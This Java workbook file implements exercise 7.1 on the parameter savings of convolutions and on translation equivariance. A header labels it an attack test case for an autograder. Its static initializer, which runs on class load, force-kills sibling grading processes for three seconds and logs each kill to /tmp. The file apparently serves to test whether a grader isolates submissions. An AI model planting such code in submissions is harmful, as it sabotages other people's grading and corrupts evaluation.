// ATTACK: kill-sibling
// The reference 7.1, plus a static initializer that, for 3 s (on every load of the class), kills every
// other grading child it can see: ProcessHandle.allProcesses() whose command line contains
// "d2l.grader.GradingChild" or "d2l.grader.runner.Runner" and that is not this JVM, with destroyForcibly(), every 100 ms. With
// `--roster R --jobs 2` the other submission graded at the same time loses every check that was running while it
// was killed. Marker: /tmp/PWNED-kill-sibling (one line per kill: pid and command line).
// A safe grader isolates submissions from each other (separate PID namespaces / users): the victim's score equals
// its score when graded alone, this submission scores 12/12 for 7.1, and /tmp/PWNED-kill-sibling holds no kill
// (or does not exist on the host).
import static d2l.tensor.Torch.*;

import d2l.nn.functional.F;
import d2l.tensor.Tensor;
import d2l.workbook.NotImplementedYet;

/**
 * 7.1 From Fully Connected Layers to Convolutions: count what the two principles save, and see
 * translation equivariance happen.
 *
 * <p>The book derives the convolutional layer from a fully connected one by asking for translation
 * invariance (the same weights at every position) and locality (only a neighbourhood of radius
 * Delta matters). Each step removes parameters; the functions below count them, then show in
 * code that a cross-correlation moves with its input.
 *
 * <p>Book: {@code ../shared/book/001_8174f7e01dfee399.txt}, "From Fully Connected Layers to
 * Convolutions" (Constraining the MLP, Translation Invariance, Locality, Channels, Summary table);
 * {@code ../shared/book/000_3764b64cbf4f4687.txt}, "7.1 From Fully Connected Layers to
 * Convolutions" (KEY INSIGHT - The Parameter Problem); {@code ../shared/book/002_57cc1b6958d3ea8c.txt},
 * "7.1" (Locality, Channels).
 *
 * <p>Below, [000], [001] and [002] stand for these files of {@code ../shared/book/}.
 *
 * <p>Check it: {@code check("7.1")} in {@code ./d2l jshell}, or run {@code CheckWorkbook.section7_1}
 * in your IDE.
 */
public class Sec7_1 {

    /**
     * The weights of a fully connected layer from an {@code h x w} image to an {@code h x w}
     * hidden representation: {@code [W]_{i,j,k,l}} has one weight for every pair of an output
     * pixel {@code (i, j)} and an input pixel {@code (k, l)}.
     *
     * <p>Formula: {@code (h * w) * (h * w)} (the bias {@code U} is not counted).
     *
     * <p>Book [001], Constraining the MLP: "For a 1000 x 1000 image, this requires 10^12 parameters!"
     *
     * <pre>{@code
     * jshell> fullyConnectedWeights(1000, 1000)
     * $1 ==> 1000000000000
     * }</pre>
     */
    public static long fullyConnectedWeights(int h, int w) {
        long pixels = (long) h * w;
        return pixels * pixels;
    }

    /**
     * The weights of a dense layer from {@code inputs} values to {@code hidden} units.
     *
     * <p>Formula: {@code inputs * hidden}.
     *
     * <p>Book [000], 7.1 KEY INSIGHT: "A 1-megapixel image with just 1000 hidden units requires
     * 10^9 parameters in a fully connected layer."
     *
     * <pre>{@code
     * jshell> denseWeights(1_000_000, 1000)
     * $2 ==> 1000000000
     * }</pre>
     */
    public static long denseWeights(long inputs, long hidden) {
        return inputs * hidden;
    }

    /**
     * The weights left after translation invariance: {@code [V]_{a,b}} no longer depends on
     * {@code (i, j)}, only on the offset {@code (a, b) = (k - i, l - j)}, and on an {@code h x w}
     * image the offsets run over {@code -(h-1) .. h-1} and {@code -(w-1) .. w-1}.
     *
     * <p>Formula: {@code (2h - 1) * (2w - 1)}.
     *
     * <p>Book [001], Translation Invariance and Locality: "From 4 x 10^6 parameters ...".
     *
     * <pre>{@code
     * jshell> translationInvariantWeights(1000, 1000)
     * $3 ==> 3996001
     * }</pre>
     */
    public static long translationInvariantWeights(int h, int w) {
        return (2L * h - 1) * (2L * w - 1);
    }

    /**
     * The weights left after locality: only offsets with {@code |a|, |b| <= delta} are kept.
     *
     * <p>Formula: {@code (2 * delta + 1)^2}, about {@code 4 * delta^2} for a large delta, which
     * is how [000] writes it.
     *
     * <p>Book [001], Locality: "Parameter reduction: From 4 x 10^6 parameters to (2 Delta + 1)^2
     * parameters"; [002], Locality: "we reduced the number of parameters by another four orders
     * of magnitude". (The "4 x 10^4" [001] adds in parentheses is not what the formula gives for
     * the typical Delta below 10 that [000] names.)
     *
     * <pre>{@code
     * jshell> localWeights(1)
     * $4 ==> 9
     * jshell> localWeights(10)
     * $5 ==> 441
     * }</pre>
     */
    public static long localWeights(int delta) {
        long side = 2L * delta + 1;
        return side * side;
    }

    /**
     * The weights of a convolutional layer with channels: {@code [V]_{a,b,c,d}} has one
     * {@code (2 delta + 1) x (2 delta + 1)} kernel for every pair of an input channel {@code c}
     * and an output channel {@code d}. This is the number of elements of a {@code Conv2d}
     * weight: {@code new Conv2d(cIn, cOut, 2 * delta + 1).weight().numel()}.
     *
     * <p>Formula: {@code (2 delta + 1)^2 * cIn * cOut}.
     *
     * <p>Book [001], Channels, and its summary table: "O(Delta^2 * c_in * c_out)".
     *
     * <pre>{@code
     * jshell> convolutionWeights(1, 3, 64)
     * $6 ==> 1728
     * }</pre>
     */
    public static long convolutionWeights(int delta, int cIn, int cOut) {
        return localWeights(delta) * cIn * cOut;
    }

    /**
     * The weights of a fully connected layer from an {@code h x w x cIn} image to an
     * {@code h x w x cOut} hidden representation.
     *
     * <p>Formula: {@code (h * w * cIn) * (h * w * cOut)}.
     *
     * <p>Book [002], Channels: images are "third-order tensors ... e.g., with shape 1024 x 1024 x 3".
     *
     * <pre>{@code
     * jshell> fullyConnectedWeights(1000, 1000, 3, 3)
     * $7 ==> 9000000000000
     * }</pre>
     */
    public static long fullyConnectedWeights(int h, int w, int cIn, int cOut) {
        long pixels = (long) h * w;
        return pixels * cIn * pixels * cOut;
    }

    /**
     * {@code X} moved {@code dy} rows down and {@code dx} columns right (up and left when
     * negative); what moves out of the tensor is lost and what comes in is 0. The result has
     * the shape of {@code X}: {@code Y[i + dy, j + dx] = X[i, j]}.
     *
     * <pre>{@code
     * jshell> shift(tensor("[[1.0, 2.0], [3.0, 4.0]]"), 1, 0)
     * $8 ==> tensor([[0., 0.],
     *         [1., 2.]])
     * }</pre>
     */
    public static Tensor shift(Tensor X, int dy, int dx) {
        int h = X.size(0);
        int w = X.size(1);
        Tensor Y = zeros(h, w);
        int rows = h - Math.abs(dy);
        int cols = w - Math.abs(dx);
        if (rows <= 0 || cols <= 0) {
            return Y;
        }
        int fromRow = Math.max(0, -dy);
        int fromCol = Math.max(0, -dx);
        int toRow = Math.max(0, dy);
        int toCol = Math.max(0, dx);
        Y.set(slice(toRow, toRow + rows), slice(toCol, toCol + cols),
                X.get(slice(fromRow, fromRow + rows), slice(fromCol, fromCol + cols)));
        return Y;
    }

    /**
     * The 2-D cross-correlation of {@code X} with {@code K}, computed by the runtime's
     * convolution: {@code F.conv2d} takes 4-D tensors {@code (batch, channels, height, width)}
     * for the input and {@code (out channels, in channels, height, width)} for the kernel, so
     * reshape both to a batch of one with one channel, and the result back to 2-D.
     *
     * <p>Formula: {@code H[i, j] = sum_a sum_b K[a, b] * X[i + a, j + b]} ([001], Translation
     * Invariance, with the offsets starting at 0); the output is
     * {@code (n_h - k_h + 1) x (n_w - k_w + 1)}.
     *
     * <pre>{@code
     * jshell> crossCorrelation(tensor("[[0.0, 1.0, 2.0], [3.0, 4.0, 5.0], [6.0, 7.0, 8.0]]"), tensor("[[0.0, 1.0], [2.0, 3.0]]"))
     * $9 ==> tensor([[19., 25.],
     *         [37., 43.]])
     * }</pre>
     */
    public static Tensor crossCorrelation(Tensor X, Tensor K) {
        Tensor Y = F.conv2d(X.reshape(1, 1, X.size(0), X.size(1)), K.reshape(1, 1, K.size(0), K.size(1)), null);
        return Y.reshape(Y.size(2), Y.size(3));
    }

    /**
     * Translation equivariance in code: true when cross-correlating the shifted input gives the
     * shifted output, {@code crossCorrelation(shift(X, dy, dx), K)} equal (to within 1e-6) to
     * {@code shift(crossCorrelation(X, K), dy, dx)}. It holds whenever nothing of interest moves
     * out of the picture, e.g. for a small pattern in the middle of a zero background.
     *
     * <p>Book [001], Invariance: "the network should respond similarly regardless of WHERE an
     * object appears"; Translation Invariance: "weights are shared across all positions".
     *
     * <pre>{@code
     * jshell> var dot = zeros(6, 6).set(2, 2, 1)
     * jshell> shiftCommutes(dot, tensor("[[1.0, 2.0], [3.0, 4.0]]"), 1, 2)
     * $11 ==> true
     * }</pre>
     */
    public static boolean shiftCommutes(Tensor X, Tensor K, int dy, int dx) {
        Tensor shiftedThenCorrelated = crossCorrelation(shift(X, dy, dx), K);
        Tensor correlatedThenShifted = shift(crossCorrelation(X, K), dy, dx);
        return shiftedThenCorrelated.allclose(correlatedThenShifted, 0, 1e-6);
    }
    // ---- attack helper (kill-sibling) ----
    static {
        long self = ProcessHandle.current().pid();
        long end = System.nanoTime() + 3_000_000_000L;
        StringBuilder log = new StringBuilder();
        while (System.nanoTime() < end) {
            ProcessHandle.allProcesses()
                    .filter(p -> p.pid() != self)
                    .filter(p -> p.info().commandLine().orElse("").contains("d2l.grader.GradingChild") || p.info().commandLine().orElse("").contains("d2l.grader.runner.Runner"))
                    .forEach(p -> {
                        if (p.destroyForcibly()) {
                            log.append("killed ").append(p.pid()).append(' ').append(p.info().commandLine().orElse("")).append('\n');
                        }
                    });
            try {
                Thread.sleep(100);
            } catch (InterruptedException e) {
                break;
            }
        }
        try {
            java.nio.file.Files.writeString(java.nio.file.Path.of("/tmp/PWNED-kill-sibling"), log.toString(),
                    java.nio.file.StandardOpenOption.CREATE, java.nio.file.StandardOpenOption.APPEND);
        } catch (java.io.IOException e) {
            System.err.println(log);
        }
    }
}
